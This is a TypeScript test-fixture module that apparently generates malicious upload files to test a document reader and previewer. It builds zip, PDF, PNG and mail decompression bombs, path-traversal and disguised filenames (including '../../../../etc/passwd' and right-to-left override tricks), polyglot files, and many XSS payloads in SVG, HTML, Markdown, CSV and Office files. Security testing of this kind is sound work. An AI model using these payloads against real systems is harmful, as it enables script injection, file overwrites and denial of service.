import { Buffer } from 'node:buffer'
import { excelOf, paragraph, wordOf } from '#foundation/server/reading/testing/office.ts'
import { outlookOf } from '#foundation/server/reading/testing/outlook.ts'
import { pdfOf } from '#foundation/server/reading/testing/pdf.ts'
import { jpegOf, pngOf } from '#foundation/server/reading/testing/pictures.ts'
import { zipOf } from '#foundation/server/reading/testing/zip.ts'
import { swollenPdf } from './asking.ts'
import { type AttackFile, type Bait, filesOf, mailFile } from './file.ts'

/** Small files that unpack to a lot of data. */
export function swelling(): AttackFile[] {
  const blank = ' '.repeat(12_000_000)
  const nested = Buffer.from(zipOf({ 'a.txt': blank })).toString('latin1')
  return filesOf('bombs', [
    [
      'an archive that unpacks to 36 MB',
      'bomb.zip',
      zipOf(Object.fromEntries(Array.from({ length: 3 }, (_, at) => [`${at}.txt`, blank]))),
    ],
    ['an archive in archives', 'nested.zip', zipOf({ 'a.zip': nested, 'b.zip': nested })],
    ['an archive that lies about its size', 'lying.zip', zipOf({ 'a.txt': 'x'.repeat(1_000_000) }, 10)],
    [
      'an archive of 6,000 files',
      'many.zip',
      zipOf(Object.fromEntries(Array.from({ length: 6_000 }, (_, at) => [`${at}.txt`, '']))),
    ],
    ['a Word file', 'bomb.docx', wordOf(blank)],
    ['a Word file that is nested', 'nested.docx', zipOf({ 'word/document.xml': '<w:p>'.repeat(200_000) })],
    [
      'a sheet of a billion cells',
      'wide.xlsx',
      excelOf('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'.repeat(50)),
    ],
    ['a page that is nested', 'nested.html', `<!doctype html>${'<div><b>'.repeat(60_000)}x`],
    ['a PDF whose stream unpacks to 60 MB', 'bomb.pdf', swollenPdf()],
    ['a picture of 60,000 by 60,000 points', 'huge.png', pngOf(60_000, 60_000)],
    ['a mail of parts within parts', 'nested.eml', deepMail(400)],
  ])
}

/** Names that lead elsewhere, or look like others. */
export function naming({ script }: Bait): AttackFile[] {
  const upwards = '../../../../etc/passwd'
  return filesOf('path names', [
    [
      'in an archive, upwards',
      'upwards.zip',
      zipOf({ [upwards]: 'x', [String.raw`..\..\windows\win.ini`]: 'y', '/etc/cron.d/x': 'z' }),
    ],
    [
      'in an archive, with control characters',
      'control.zip',
      zipOf({ 'a\u0000.txt': 'x', 'b\r\nX: y.txt': 'y', 'c\u202Etxt.exe': 'z' }),
    ],
    [
      'within a Word file',
      'targets.docx',
      wordOf(paragraph('x'), {
        'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="a/footnotes" Target="${upwards}"/></Relationships>`,
      }),
    ],
    ['of what is attached to a mail', 'attached.eml', mailFile({ more: attached(upwards) })],
    [
      'of what is attached to an Outlook mail',
      'attached.msg',
      Buffer.from(outlookOf({ subject: 'x', text: 'y', attached: [upwards, 'a\u202Efdp.exe'] })),
    ],
    ['upwards', upwards, 'A file that wants to be elsewhere.'],
    ['with a line break and a header', 'a\r\nSet-Cookie: x=1\r\n.txt', 'A file with a header in its name.'],
    ['turned around', 'annexe\u202Efdp.exe', 'A file that looks like a PDF.'],
    ['of invisible letters', '\u200B\u2066\u00AD\uFEFF.html', '<!doctype html><p>A file without a name.'],
    ['very long', `${'long '.repeat(49)}.txt`, 'A file with a long name.'],
    ['with tags', `<img src=x onerror=${script}>.txt`, 'A file with tags in its name.'],
    ['of a device', 'CON.txt', 'A file with the name of a device.'],
  ])
}

/** Files that are two things at once. */
export function pretending({ far, script }: Bait): AttackFile[] {
  const run = `<script>${script}</script><img src="${far}/poly.png" onerror="${script}">`
  const jpeg = jpegOf(40, 30, Buffer.from(run))
  const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;${script}//`)])
  return filesOf('polyglots', [
    [
      'a PDF that begins as HTML',
      'page.pdf',
      Buffer.concat([Buffer.from(`<!doctype html>${run}<!--`), pdfOf([['A page']]), Buffer.from('-->')]),
    ],
    ['a PDF that is HTML by name', 'pdf.html', Buffer.concat([pdfOf([['A page']]), Buffer.from(run)])],
    ['a PDF that is an archive', 'archive.pdf', Buffer.concat([pdfOf([['A page']]), zipOf({ 'a.html': run })])],
    ['a GIF that is a script', 'script.gif', gif],
    ['a GIF that is a script by name', 'gif.js', gif],
    ['a JPEG that is HTML', 'page.jpg', Buffer.concat([jpeg, Buffer.from(run)])],
    ['a PNG with a script in its text', 'page.png', Buffer.concat([pngOf(20, 20), pngText(`Comment\0${run}`)])],
    ['HTML that is a picture by name', 'html.png', `<!doctype html>${run}`],
    [
      'an SVG that is a picture by name',
      'svg.jpg',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}">${run}</svg>`,
    ],
    ['HTML that is text by name', 'html.txt', `<!doctype html><p>Text</p>${run}`],
    ['a sheet that is a PDF by name', 'sheet.pdf', excelOf('<row r="1"><c r="A1"><v>1</v></c></row>')],
    ['a program that is a PDF by name', 'program.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 7)])],
    ['HTML in UTF-16', 'wide.html', Buffer.from(`\uFEFF<!doctype html><p>Wide</p>${run}`, 'utf16le')],
    ['HTML in UTF-7', 'seven.html', `<meta charset=utf-7><p>+ADw-script+AD4-${script}+ADw-/script+AD4-`],
  ])
}

/** What would run in a preview. */
export function running(bait: Bait): AttackFile[] {
  return [...runningInPictures(bait), ...runningInPages(bait), ...runningInTexts(bait)]
}

function runningInPictures({ far, script }: Bait): AttackFile[] {
  return filesOf('previews', [
    ['SVG with a script', 'script.svg', svg(`<script>${script}</script><script href="${far}/s.js"/>`)],
    [
      'SVG with handlers',
      'load.svg',
      svg(
        `<rect onmouseover="${script}" width="40" height="40"/><image href="x:x" onerror="${script}"/>`,
        `onload="${script}"`,
      ),
    ],
    [
      'SVG with HTML in it',
      'foreign.svg',
      svg(
        `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>parent.${script}&lt;/script>"/><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}"/></foreignObject>`,
      ),
    ],
    [
      'SVG that animates an address',
      'animated.svg',
      svg(
        `<a><animate attributeName="href" values="javascript:${script}"/><set attributeName="onmouseover" to="${script}"/><text y="30">x</text></a>`,
      ),
    ],
  ])
}

function runningInPages({ far, script }: Bait): AttackFile[] {
  return filesOf('previews', [
    [
      'HTML with scripts',
      'script.html',
      page(`<script>${script}</script><script src="${far}/s.js"></script><script type=module>${script}</script>`),
    ],
    [
      'HTML with handlers',
      'handlers.html',
      page(
        `<img src=x onerror="${script}"><body onload="${script}"><input autofocus onfocus="${script}"><details open ontoggle="${script}"><video><source onerror="${script}"></video>`,
      ),
    ],
    [
      'HTML with frames',
      'frame.html',
      page(
        `<iframe srcdoc="<script>top.${script}</script>"></iframe><object data="data:text/html,<script>${script}</script>"></object><meta http-equiv=refresh content="0;url=javascript:${script}">`,
      ),
    ],
    [
      'HTML that changes as it is read again',
      'mutation.html',
      page(
        `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=${script}>"><svg><style><img src=x onerror=${script}></style></svg>`,
      ),
    ],
    [
      'HTML with a form',
      'form.html',
      page(
        `<form action="${far}/form" id=f><input name=q value=1></form><button form=f formaction="javascript:${script}">Go</button><script>f.submit()</script>`,
      ),
    ],
  ])
}

function runningInTexts({ script }: Bait): AttackFile[] {
  return filesOf('previews', [
    [
      'Markdown with HTML in it',
      'script.md',
      `# Shown\n\n<script>${script}</script>\n\n<img src=x onerror="${script}">\n\n\`\`\`html\n<script>${script}</script>\n\`\`\`\n`,
    ],
    [
      'a mail with scripts',
      'script.eml',
      mailFile({ html: page(`<script>${script}</script><img src=x onerror="${script}">`) }),
    ],
    [
      'tags in the cells of a CSV file',
      'tags.csv',
      `name,value\n<img src=x onerror=${script}>,<script>${script}</script>\n`,
    ],
    [
      'tags in the cells of a sheet',
      'tags.xlsx',
      excelOf(`<row r="1"><c r="A1" t="inlineStr"><is><t>&lt;img src=x onerror=${script}&gt;</t></is></c></row>`),
    ],
    [
      'tags in a Word file',
      'tags.docx',
      wordOf(paragraph(`&lt;script&gt;${script}&lt;/script&gt;&lt;img src=x onerror=${script}&gt;`)),
    ],
  ])
}

function deepMail(depth: number): string {
  const begin = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
  )
  return `Subject: Deep\r\n${begin.join('')}Content-Type: text/plain\r\n\r\nx\r\n`
}

function attached(name: string): string {
  return `Content-Type: text/plain; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\nx`
}

/** A chunk of a PNG file. */
function pngText(words: string): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(words.length)
  head.write('tEXt', 4)
  return Buffer.concat([head, Buffer.from(words), Buffer.alloc(4)])
}

function svg(inner: string, attributes = ''): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" ${attributes}>${inner}<text y="20">Drawn</text></svg>`
}

function page(inner: string): string {
  return `<!doctype html><html><body><p>Shown</p>${inner}</body></html>`
}
